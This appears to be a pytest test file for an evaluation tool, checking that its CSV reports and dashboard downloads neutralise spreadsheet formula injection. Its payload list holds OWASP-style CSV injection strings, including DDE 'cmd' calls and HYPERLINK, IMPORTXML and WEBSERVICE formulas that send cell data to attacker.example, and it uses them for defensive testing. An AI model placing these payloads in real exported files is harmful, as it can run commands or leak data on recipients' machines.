"""Spreadsheet formulas never run from a CSV evals writes (OWASP's CSV injection, CWE-1236).

The payloads come from OWASP's CSV Injection page and the write-ups it cites (DDE calls,
HYPERLINK exfiltration, formulas after a leading tab, carriage return, blank or zero-width
character). Each one is an agent's output, a test's var and a dataset's column name; the
CLI's `.csv` report and the dashboard's CSV downloads (one writer) must hold every header
and every cell as text a spreadsheet will not run, and keep what it says.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from evals.common.spreadsheet import csv_text, formula_safe

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?leak="&A1, "Click")',
    "+cmd|' /C notepad'!'B1'",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://attacker.example/", A2), "//a")',
    '=WEBSERVICE("http://attacker.example/"&A1)',
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\u200b=1+1",
    "\ufeff@SUM(1,2)",
    '"=1+1"',
]

# A spreadsheet runs a cell whose text (past blanks and zero-width characters) starts so.
_RUNS = re.compile(r"^[\s\u200b\u200c\u200d\ufeff]*[=@+-]")


def _runs_as_formula(cell: str) -> bool:
    if cell.startswith(("\t", "\r")):
        return True
    if not _RUNS.match(cell):
        return False
    try:
        float(cell.strip())
        return False  # a signed number
    except ValueError:
        return True


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_text_and_keeps_its_words(payload: str) -> None:
    cell = formula_safe(payload)
    assert not _runs_as_formula(cell)
    assert cell in (payload, "'" + payload)


@given(st.text())
def test_no_cell_or_header_runs_and_nothing_is_lost(value: str) -> None:
    (header, row) = list(csv.reader(io.StringIO(csv_text([value], [[value]]), newline="")))
    for cell in (*header, *row):
        assert not _runs_as_formula(cell)
        assert cell in (value, "'" + value)


@pytest.mark.parametrize("number", ["-1.5", "+3", "-0", "1e3", "-2.5e-3"])
def test_signed_numbers_stay_numbers(number: str) -> None:
    assert formula_safe(number) == number


def test_the_dashboard_download_escapes_headers_and_cells() -> None:
    pd = pytest.importorskip("pandas")
    pytest.importorskip("streamlit")
    from evals.dashboard import widgets

    frame = pd.DataFrame({p: [p, None, 1.5] for p in PAYLOADS[:4]})
    rows = list(csv.reader(io.StringIO(widgets.csv_text(frame), newline="")))
    assert all(not _runs_as_formula(cell) for row in rows for cell in row)
    assert rows[2][0] == "" and rows[3][0] == "1.5"


SUITE = """\
prompts: ['{{ q }}']
providers: [file://agent.py]
tests: file://data.csv
"""

AGENT = """\
import json

PAYLOADS = json.loads(open("payloads.json").read())


def call_api(prompt, options, context):
    return {"output": PAYLOADS[int(context["vars"]["n"])]}
"""


def test_the_cli_report_escapes_dataset_column_names_and_agent_text(tmp_path: Path) -> None:
    names = ['=HYPERLINK("http://attacker.example")', "+cmd", "@SUM(1)", "-x"]
    data = io.StringIO()
    writer = csv.writer(data)
    writer.writerow(["q", "n", *names])
    for index, payload in enumerate(PAYLOADS):
        writer.writerow([payload, index, *PAYLOADS[:4]])
    (tmp_path / "data.csv").write_text(data.getvalue(), encoding="utf-8")
    (tmp_path / "payloads.json").write_text(json.dumps(PAYLOADS), encoding="utf-8")
    (tmp_path / "suite.yaml").write_text(SUITE, encoding="utf-8")
    (tmp_path / "agent.py").write_text(AGENT, encoding="utf-8")
    done = subprocess.run(
        [sys.executable, "-m", "evals", "run", "suite.yaml", "--no-store", "-o", "out.csv"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode in (0, 100), done.stderr
    rows = list(csv.reader((tmp_path / "out.csv").open(encoding="utf-8", newline="")))
    header = rows[0]
    assert any("HYPERLINK" in name for name in header)  # the column is there, as text
    flagged = [cell for row in rows for cell in row if _runs_as_formula(cell)]
    assert flagged == []
    outputs = {cell for row in rows[1:] for cell in row}
    assert "'=cmd|' /C calc'!A0" in outputs
